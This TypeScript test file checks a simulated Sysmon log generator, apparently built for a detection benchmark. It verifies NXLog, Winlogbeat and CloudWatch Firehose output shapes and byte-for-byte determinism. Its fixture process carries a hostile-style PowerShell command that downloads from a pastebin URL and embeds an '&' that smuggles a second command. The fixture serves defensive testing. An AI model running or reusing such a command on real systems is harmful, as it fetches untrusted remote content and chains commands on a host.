import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SimEvent } from './events.ts';
import { type GenerateOptions, generateBatch } from './generate.ts';
import { handMadeProc } from './hand-made.ts';
import { CWL_EVENTS_PER_ENVELOPE, nxlogLine, SYSMON_SHAPES, winlogbeatLine } from './shapes.ts';
import { SysmonFormatter } from './sysmon-format.ts';
import { BINARIES, type Proc, SYSTEM_ACCOUNTS } from './world.ts';

type Json = Record<string, unknown>;

/** A user's PowerShell: Sysmon's `User` is the user, the event log's own user is SYSTEM. */
const powershell = (): Proc =>
  handMadeProc({
    bin: BINARIES.powershell,
    image: BINARIES.powershell.path,
    nameLower: 'powershell.exe',
    cmd: 'powershell.exe -nop -c "iwr https://pastebin.com/raw/x -OutFile a&b.txt"',
    account: { ...SYSTEM_ACCOUNTS.system, sysmon: "CORP\\zoë.o'neil", sid: 'S-1-5-21-1-2-3-1104' },
  });

const create = (): SimEvent => ({ t: 'create', proc: powershell(), time: powershell().startMs });

describe('Bench shapes: one Sysmon event in each shape', () => {
  it('NXLog: one flat object, EventID a number, Hostname the Computer, EventData names at the top', () => {
    // Prepare
    const record = new SysmonFormatter().record(create());

    // Act
    const line = nxlogLine(record);
    const json = JSON.parse(line) as Json;

    // Assess
    expect(line.endsWith('}\n')).toBe(true);
    expect(line.indexOf('\n')).toBe(line.length - 1);
    expect(json.EventID).toBe(1);
    expect(json.Channel).toBe('Microsoft-Windows-Sysmon/Operational');
    expect(json.Hostname).toBe(powershell().host.fqdn);
    expect(json.UtcTime).toBe('2024-03-01 10:00:00.123');
    expect(json.User).toBe("CORP\\zoë.o'neil");
    expect(json.CommandLine).toBe(powershell().cmd);
    expect(json.ProcessId).toBe('4242');
  });

  it("Winlogbeat: event_id a string, Sysmon's User in event_data, winlog.user the event log's SYSTEM", () => {
    // Prepare
    const record = new SysmonFormatter().record(create());

    // Act
    const json = JSON.parse(winlogbeatLine(record)) as {
      '@timestamp': string;
      winlog: Json & { event_data: Json; user: Json };
    };

    // Assess
    expect(json.winlog.event_id).toBe('1');
    expect(json.winlog.channel).toBe('Microsoft-Windows-Sysmon/Operational');
    expect(json.winlog.computer_name).toBe(powershell().host.fqdn);
    expect(json.winlog.event_data.User).toBe("CORP\\zoë.o'neil");
    expect(json.winlog.user.name).toBe('SYSTEM');
    expect(json.winlog.event_data.UtcTime).toBe('2024-03-01 10:00:00.123');
    expect(json.winlog.event_data.CommandLine).toBe(powershell().cmd);
    expect(Date.parse(json['@timestamp'])).toBeGreaterThanOrEqual(powershell().startMs);
  });
});

describe('Bench shapes: batches', () => {
  let dir = '';
  const options: GenerateOptions = { source: 'sysmon', mb: 0.5, seed: 5, attackRate: 0.02 };

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 't1102-shapes-'));
  });

  afterAll(() => {
    rmSync(dir, { recursive: true, force: true });
  });

  it.each(SYSMON_SHAPES)(
    'holds the XML batch’s events and planted matches in the %s shape',
    async (shape) => {
      // Act
      const xml = await generateBatch({ ...options, dir });
      const shaped = await generateBatch({ ...options, shape, dir });

      // Assess
      expect(shaped.manifest.groups).toEqual(xml.manifest.groups);
      expect(shaped.manifest.plantedMatches).toBe(xml.manifest.plantedMatches);
      expect(shaped.manifest.events).toBe(xml.manifest.records);
      expect(shaped.path).not.toBe(xml.path);
    },
  );

  it.each(SYSMON_SHAPES)('writes the same %s batch, byte for byte, for a seed', async (shape) => {
    // Act
    const a = await generateBatch({ ...options, shape, dir: join(dir, 'a') });
    const b = await generateBatch({ ...options, shape, dir: join(dir, 'b') });

    // Assess
    expect(readFileSync(a.path).equals(readFileSync(b.path))).toBe(true);
  });

  it('writes CloudWatch Logs as Firehose does: one gzip member per envelope, a control message first, the XML in the messages', async () => {
    // Prepare
    const xml = await generateBatch({ ...options, dir });

    // Act
    const cwl = await generateBatch({ ...options, shape: 'cwl', dir });

    // Assess
    const file = readFileSync(cwl.path);
    const envelopes = gunzipSync(file)
      .toString('utf8')
      .split(/(?<=\})(?=\{"messageType")/);
    expect(envelopes).toHaveLength(cwl.manifest.records);
    expect(Buffer.concat(envelopes.map((e) => gzipSync(e))).equals(file)).toBe(true);
    const parsed = envelopes.map(
      (e) => JSON.parse(e) as { messageType: string; logEvents: { message: string }[] },
    );
    expect(parsed[0]?.messageType).toBe('CONTROL_MESSAGE');
    const data = parsed.slice(1);
    expect(data.every((e) => e.messageType === 'DATA_MESSAGE')).toBe(true);
    expect(data.every((e) => e.logEvents.length <= CWL_EVENTS_PER_ENVELOPE)).toBe(true);
    const messages = data.flatMap((e) => e.logEvents.map((l) => l.message));
    expect(messages).toHaveLength(xml.manifest.records);
    expect(messages.join('')).toBe(gunzipSync(readFileSync(xml.path)).toString('utf8'));
  });
});
